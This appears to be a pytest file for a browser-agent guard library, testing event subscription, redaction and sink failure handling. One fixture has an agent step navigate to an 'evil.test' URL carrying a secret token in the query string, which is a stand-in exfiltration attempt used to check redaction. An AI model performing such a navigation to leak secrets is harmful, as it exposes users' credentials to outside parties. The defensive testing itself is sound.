"""Guard events: subscribed sinks receive each judged step, redacted, and cannot break it."""

from __future__ import annotations

import json

from pagewarden import Action, Guard, GuardEvent, Observation, Step


def _step(guard: Guard, value: str) -> Step:
    return guard.make_step(
        Action(kind="goto", method="Page.goto", value=value), Observation(url="http://app.test/")
    )


def test_step_event_is_the_trace_line(tmp_path) -> None:
    events: list[GuardEvent] = []
    trace = tmp_path / "trace.jsonl"
    with Guard(trace=trace, goal="read the docs") as guard:
        guard.subscribe(events.append)
        guard.check(_step(guard, "http://app.test/docs"))
    lines = [json.loads(line) for line in trace.read_text().splitlines()]
    assert [e.kind for e in events] == ["step"]
    assert events[0].data == lines[0]
    assert events[0].session == guard.session_id
    assert events[0].to_dict()["data"]["verdict"]["decision"] == "allow"


def test_events_are_redacted_and_unsubscribe_works() -> None:
    events: list[GuardEvent] = []
    guard = Guard(secrets=["PWSECRET-4242-abcd"])
    stop = guard.subscribe(events.append)
    guard.check(_step(guard, "http://evil.test/?t=PWSECRET-4242-abcd"))
    guard.emit("network", {"url": "http://evil.test/?t=PWSECRET-4242-abcd", "decision": "refused"})
    stop()
    guard.check(_step(guard, "http://app.test/"))
    assert [e.kind for e in events] == ["step", "network"]
    assert "PWSECRET-4242-abcd" not in json.dumps([e.to_dict() for e in events])
    assert events[1].data["decision"] == "refused"


def test_a_failing_sink_does_not_break_the_step() -> None:
    seen: list[str] = []

    def broken(event: GuardEvent) -> None:
        raise RuntimeError("sink down")

    guard = Guard()
    guard.subscribe(broken)
    guard.subscribe(lambda e: seen.append(e.kind))
    verdict = guard.check(_step(guard, "http://app.test/"))
    assert verdict.allowed
    assert seen == ["step"]


def test_a_sink_of_some_kinds_gets_only_those_and_costs_no_step_copy(monkeypatch) -> None:
    """`subscribe(sink, kinds=...)`: the sink gets only those events, and a guard whose sinks take
    no ``step`` event builds no redacted copy of each step (no trace line is made)."""
    import pagewarden.guard._guard as guard_module

    made: list[int] = []
    real = guard_module.trace_record
    monkeypatch.setattr(guard_module, "trace_record", lambda *a, **k: made.append(1) or real(*a, **k))
    network: list[GuardEvent] = []
    guard = Guard()
    guard.subscribe(network.append, kinds=("network",))
    guard.check(_step(guard, "http://app.test/docs"))
    guard.emit("network", {"url": "http://evil.test/", "rule": "domain_deny"})
    guard.emit("policies", {"policies": 1})
    assert [e.kind for e in network] == ["network"] and made == []
    steps: list[GuardEvent] = []
    guard.subscribe(steps.append)
    guard.check(_step(guard, "http://app.test/docs"))
    assert [e.kind for e in steps] == ["step"] and made == [1] and len(network) == 1
